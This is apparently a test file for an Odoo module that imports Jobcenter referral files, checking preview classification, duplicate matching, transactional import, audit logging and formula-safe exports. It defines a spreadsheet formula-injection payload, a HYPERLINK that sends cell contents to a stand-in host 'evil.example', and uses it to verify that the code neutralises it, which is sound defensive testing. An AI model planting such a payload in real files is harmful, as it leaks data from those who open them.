"""Referral files of a Jobcenter: preview, decisions, import in one transaction,
and every export safe against spreadsheet formulas."""

import base64
import csv
import io
from datetime import datetime
from pathlib import Path

import openpyxl
import xlsxwriter

from odoo.exceptions import UserError, ValidationError
from odoo.tests import tagged

from ..models.exchange_tools import csv_bytes, name_key, neutralize, similar_names
from .common import OrganisationsCase

HEADER = (
    "customer_number;last_name;first_name;birthdate;email;phone;referral_date;"
    "reason;consent;consent_reference"
)
LONG = "A" * 2000
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'


def csv_file(*rows, header=HEADER, encoding="utf-8-sig"):
    return "\r\n".join((header, *rows)).encode(encoding)


@tagged("post_install", "-at_install")
class TestReferralImport(OrganisationsCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.own.jobcenter_customer_number = "111A000001"
        cls.fatima = cls.create_participant(
            "Fatima Haddad", birthdate="1988-05-17", referrer_id=False
        )
        cls.env.ref("base.user_admin").sudo().lang = "en_US"

    def make_import(self, content, filename="referrals.csv", user=None):
        record = self.env["integration.referral.import"].create(
            {
                "jobcenter_id": self.orgs["jobcenter1"].id,
                "program_id": self.program.id,
                "file": base64.b64encode(content),
                "filename": filename,
            }
        )
        return record.with_user(user or self.staff)

    def fixture(self):
        return csv_file(
            # 2: new, with consent and a formula in the reason
            f"222 b 000002;Neu;Amina;12.03.1992;amina@example.com;;01.11.2026;"
            f"{FORMULA};ja;JC-4711",
            # 3: same customer number as Hawa Eins
            "111a000001;Eins;Hawa;1990-01-01;;;;Already here;nein;",
            # 4: same name and birth date as Fatima Haddad
            ";haddad;fatima;17.05.1988;;;;;nein;",
            # 5: transliterated name, same birth date
            ";Hadad;Fatma;1988-05-17;;;;;nein;",
            # 6: impossible date
            "333C000003;Datum;Falsch;31.02.1990;;;;;nein;",
            # 7: no first name
            "444D000004;Ohne;;1990-02-02;;;;;nein;",
            # 8: 2 000 characters
            f"555E000005;{LONG};Lang;1990-02-03;;;;;nein;",
            # 9: a formula instead of a name
            f"666F000006;Formel;{FORMULA};1990-02-04;;;;;nein;",
            # 10: same customer number as row 2
            "222B000002;Doppelt;Amina;1992-03-12;;;;;nein;",
            # 11: consent given without the form's reference
            "777G000007;Ohne;Formular;1990-02-05;;;;;ja;",
        )

    def lines_by_row(self, record):
        return {line.sequence: line for line in record.line_ids}

    def test_preview_classifies_every_row(self):
        record = self.make_import(self.fixture())
        participants = self.env["integration.participant"].search_count([])
        record.action_preview()
        self.assertEqual(record.state, "preview")
        lines = self.lines_by_row(record)
        self.assertEqual(len(lines), 10)
        self.assertEqual(lines[2].status, "new")
        self.assertEqual(lines[2].customer_number, "222B000002")
        self.assertEqual(lines[2].reason, "'" + FORMULA)
        self.assertTrue(lines[2].consent_given)
        self.assertEqual(
            (lines[3].status, lines[3].participant_id), ("duplicate", self.own)
        )
        self.assertEqual(
            (lines[4].status, lines[4].participant_id), ("duplicate", self.fatima)
        )
        self.assertEqual(
            (lines[5].status, lines[5].participant_id), ("fuzzy", self.fatima)
        )
        # A possible match is registered unless staff link her.
        self.assertEqual(lines[5].decision, "create")
        for row in (6, 7, 8, 9, 10, 11):
            self.assertEqual(lines[row].status, "invalid", row)
            self.assertEqual(lines[row].decision, "skip")
        self.assertIn("date of birth", lines[6].note)
        self.assertIn("name", lines[7].note)
        self.assertIn("60", lines[8].note)
        self.assertIn("formula", lines[9].note)
        self.assertIn("Row 2", lines[10].note)
        self.assertIn("reference", lines[11].note)
        self.assertEqual(record.invalid_count, 6)
        # Nothing but the import's own lines is written by a preview.
        self.assertEqual(
            self.env["integration.participant"].search_count([]), participants
        )

    def test_wrong_encoding_is_one_clear_error(self):
        record = self.make_import(
            csv_file("888H000008;Müller;Aylin;1990-02-06;;;;;nein;", encoding="cp1252")
        )
        with self.assertRaisesRegex(UserError, "UTF-8"):
            record.action_preview()
        self.assertFalse(record.line_ids)
        self.assertEqual(record.state, "draft")

    def test_comma_separated_and_xlsx_files(self):
        comma = csv_file(
            "999J000009,Komma,Leyla,1993-04-05,,,,,no,",
            header=HEADER.replace(";", ","),
            encoding="utf-8",
        )
        record = self.make_import(comma)
        record.action_preview()
        self.assertEqual(record.line_ids.status, "new")
        self.assertEqual(record.line_ids.name, "Leyla Komma")
        output = io.BytesIO()
        workbook = xlsxwriter.Workbook(output)
        sheet = workbook.add_worksheet()
        sheet.write_row(0, 0, HEADER.split(";"))
        sheet.write_row(1, 0, ["", "Haddad", "Fatima"])
        date_format = workbook.add_format({"num_format": "dd.mm.yyyy"})
        sheet.write_datetime(1, 3, datetime(1988, 5, 17), date_format)
        workbook.close()
        record = self.make_import(output.getvalue(), filename="referrals.xlsx")
        record.action_preview()
        self.assertEqual(record.line_ids.status, "duplicate")
        self.assertEqual(record.line_ids.participant_id, self.fatima)

    def test_cancel_writes_nothing(self):
        record = self.make_import(self.fixture())
        record.action_preview()
        counts = [
            self.env[model].search_count([])
            for model in (
                "integration.participant",
                "integration.referral",
                "integration.consent",
            )
        ]
        record.action_cancel()
        self.assertEqual(record.state, "cancelled")
        self.assertFalse(record.line_ids)
        self.assertEqual(
            counts,
            [
                self.env[model].search_count([])
                for model in (
                    "integration.participant",
                    "integration.referral",
                    "integration.consent",
                )
            ],
        )

    def test_import_links_creates_and_reports(self):
        record = self.make_import(self.fixture())
        record.action_preview()
        lines = self.lines_by_row(record)
        record.action_import()
        self.assertEqual(record.state, "done")
        amina = lines[2].participant_id
        self.assertEqual(amina.name, "Amina Neu")
        self.assertEqual(amina.jobcenter_customer_number, "222B000002")
        self.assertEqual(amina.referrer_id, self.orgs["jobcenter1"])
        consent = amina.consent_ids
        self.assertEqual((consent.state, consent.form_reference), ("given", "JC-4711"))
        self.assertEqual(amina.shared_with_partner_ids, self.orgs["jobcenter1"])
        self.assertEqual(amina.referral_ids.reason, "'" + FORMULA)
        self.assertEqual(str(amina.referral_ids.date), "2026-11-01")
        # Linked: a referral for the woman already registered, no new record.
        self.assertEqual(lines[3].participant_id, self.own)
        self.assertEqual(lines[3].referral_id.participant_id, self.own)
        self.assertEqual(lines[4].referral_id.participant_id, self.fatima)
        self.assertNotEqual(lines[5].participant_id, self.fatima)
        self.assertEqual(lines[5].result, "created")
        self.assertFalse(lines[6].referral_id)
        self.assertEqual(lines[6].result, "skipped")
        # A skipped row keeps its reason, not what it said about a woman.
        self.assertFalse(lines[6].name or lines[6].customer_number)
        self.assertIn("date of birth", lines[6].note)
        self.assertFalse(
            self.env["integration.participant"].search([("name", "ilike", "Falsch")])
        )
        # The report of what was done stays attached to the import.
        attachment = record.message_ids.attachment_ids
        self.assertEqual(len(attachment), 1)
        report = list(
            csv.reader(
                io.StringIO(base64.b64decode(attachment.datas).decode("utf-8-sig")),
                delimiter=";",
            )
        )
        self.assertEqual(len(report), 11)
        self.assertEqual(report[1][:4], ["2", "New", "Registered", str(amina.id)])
        self.assertEqual(
            report[3][:4], ["4", "Already Registered", "Linked", str(self.fatima.id)]
        )
        # No names in the report, and the uploaded file is not kept.
        self.assertNotIn("Amina", str(report))
        self.assertFalse(record.file)
        # Anonymised, she is gone from the rows of the import too.
        amina.sudo()._anonymize()
        self.assertFalse(
            lines[2].name or lines[2].birthdate or lines[2].customer_number
        )
        self.assertEqual(lines[2].result, "created")

    def test_one_transaction_on_error(self):
        record = self.make_import(self.fixture())
        record.action_preview()
        before = self.env["integration.participant"].search_count([])
        referrals = self.env["integration.referral"].search_count([])
        # Registered by hand between the preview and the import.
        self.create_participant(
            "Leila Zwischendurch", jobcenter_customer_number="222B000002"
        )
        with self.assertRaises(ValidationError):
            record.action_import()
        self.assertEqual(
            self.env["integration.participant"].search_count([]), before + 1
        )
        self.assertEqual(self.env["integration.referral"].search_count([]), referrals)
        self.assertEqual(record.state, "preview")

    def test_large_file_is_audited_and_checked_in_bulk(self):
        rows = [
            f"BULK{number:04d};Bulk;Frau {number};1985-01-{number + 1:02d};;;;"
            f"Reason {number};{'ja' if number % 2 else 'nein'};"
            f"{f'JC-{number}' if number % 2 else ''}"
            for number in range(25)
        ]
        record = self.make_import(csv_file(*rows))
        record.action_preview()
        self.assertEqual(set(record.line_ids.mapped("status")), {"new"})
        record.action_import()
        women = record.line_ids.participant_id
        self.assertEqual(len(women), 25)
        self.assertEqual(len(women.consent_ids), 12)
        self.assertEqual(women.stage_id, self.stage["intake"])
        # Her creation is in the audit trail, with the values of the file.
        log = self.env["auditlog.log"].search(
            [
                ("model_model", "=", "integration.participant"),
                ("res_id", "=", women[0].id),
                ("method", "=", "create"),
            ]
        )
        self.assertEqual(log.user_id, self.staff)
        values = dict(
            log.line_ids.mapped(lambda line: (line.field_name, line.new_value))
        )
        self.assertEqual(values["jobcenter_customer_number"], "BULK0000")
        self.assertEqual(values["name"], "Frau 0 Bulk")
        consent = women.consent_ids[0]
        self.assertTrue(
            consent.participant_id.message_ids.filtered(
                lambda message: "Consent recorded" in (message.body or "")
            )
        )
        # The duplicate rule holds for many at once.
        participants = self.env["integration.participant"]
        with self.assertRaisesRegex(ValidationError, "BULK0003"):
            participants.create(
                [
                    {
                        "name": f"Andere {number}",
                        "program_id": self.program.id,
                        "jobcenter_customer_number": f"bulk {number:04d}"
                        if number == 3
                        else f"OTHER{number}",
                    }
                    for number in range(25)
                ]
            )
        with self.assertRaisesRegex(ValidationError, "already registered"):
            participants.create(
                [
                    {
                        "name": "frau 5  bulk" if number == 5 else f"Andere {number}",
                        "birthdate": "1985-01-06",
                        "program_id": self.program.id,
                    }
                    for number in range(25)
                ]
            )

    def test_documented_example_file(self):
        path = Path(__file__).parent / "data" / "referral_import_example.csv"
        record = self.make_import(path.read_bytes())
        record.action_preview()
        self.assertEqual(record.line_ids.mapped("status"), ["new"] * 3)
        self.assertEqual(record.line_ids[2].name, "Ayşe Yılmaz")

    def test_duplicate_cannot_be_registered_again(self):
        record = self.make_import(self.fixture())
        record.action_preview()
        self.lines_by_row(record)[3].decision = "create"
        with self.assertRaisesRegex(UserError, "already registered"):
            record.action_import()

    def test_coaches_have_no_access(self):
        record = self.make_import(self.fixture())
        with self.assertRaises(Exception):  # noqa: B017  AccessError
            record.with_user(self.role_users["coach1"]).read(["line_ids"])


@tagged("post_install", "-at_install")
class TestExchangeTools(OrganisationsCase):
    def test_transliterations(self):
        self.assertEqual(name_key("Mohammad Ali"), name_key("Muhammad Ali"))
        self.assertTrue(similar_names("Ayşe Yılmaz", "Ayse Yilmaz"))
        self.assertTrue(similar_names("Aisha Rahmani", "Aischa Rahmany"))
        self.assertFalse(similar_names("Amal Test", "Nour Test"))

    def test_formula_cells_are_neutralised(self):
        for formula in ("=1+1", "@SUM(A1)", "+cmd", "-cmd", "\t=1"):
            self.assertEqual(neutralize(formula), "'" + formula)
        for harmless in ("-5", "+49 561 1234", "Amal", ""):
            self.assertEqual(neutralize(harmless), harmless)
        self.assertIn(b"'=HYPERLINK", csv_bytes(["a"], [[FORMULA]]))

    def test_funder_workbook_writes_free_text_as_text(self):
        self.program.name = FORMULA
        self.env["integration.target"].create(
            {
                "name": "=1+1",
                "program_id": self.program.id,
                "date_from": "2026-01-01",
                "date_to": "2026-12-31",
                "count_training": True,
                "target_value": 4,
            }
        )
        report = (
            self.env["integration.funder.report"]
            .with_user(self.manager)
            .create({"program_id": self.program.id, "reference_date": "2026-06-30"})
        )
        content, _file_type = (
            self.env["ir.actions.report"]
            .with_user(self.manager)
            ._render_xlsx(
                "integration_program.action_report_funder_xlsx", report.ids, {}
            )
        )
        workbook = openpyxl.load_workbook(io.BytesIO(content))
        texts = [
            str(value)
            for sheet in workbook.worksheets
            for row in sheet.iter_rows(values_only=True)
            for value in row
            if value is not None
        ]
        self.assertIn("'=1+1", texts)
        self.assertFalse([text for text in texts if text.startswith("=")])
